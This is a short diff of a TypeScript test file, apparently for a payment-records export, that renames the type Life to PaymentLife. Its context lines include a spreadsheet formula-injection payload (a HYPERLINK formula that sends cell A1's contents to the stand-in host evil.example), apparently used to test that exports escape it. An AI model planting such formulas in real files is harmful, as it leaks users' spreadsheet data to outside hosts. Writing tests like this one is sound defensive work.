@@ -10,7 +10,7 @@ import { createTestApi } from '@/test/support/api';
 import { createTestDatabase } from '@/test/support/database';
 import { createTestKey } from '@/test/support/factories';
 import { forFile } from '@/test/support/for-file';
-import { type Life, storeLives } from '@/test/support/random-lives';
+import { type PaymentLife, storeLives } from '@/test/support/random-lives';
 
 const base = await forFile(createTestDatabase());
 const api = createTestApi(base);
@@ -19,7 +19,7 @@ const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"Click"), 1';
 const CUSTOMER = 'Zoë "Z" Müller';
 let owner: Member;
 
-const life = (id: string, at: string, change: Partial<Life> = {}): Life => ({
+const life = (id: string, at: string, change: Partial<PaymentLife> = {}): PaymentLife => ({
   ...{ id, asked: 100_000, price: null, status: 'confirmed', flags: [], done: [] },
   ...{ acceptedAt: null, received: 100_000, waiting: 0, rate: '50000.00000001', refunds: [] },
   confirmedAt: Date.parse(at),
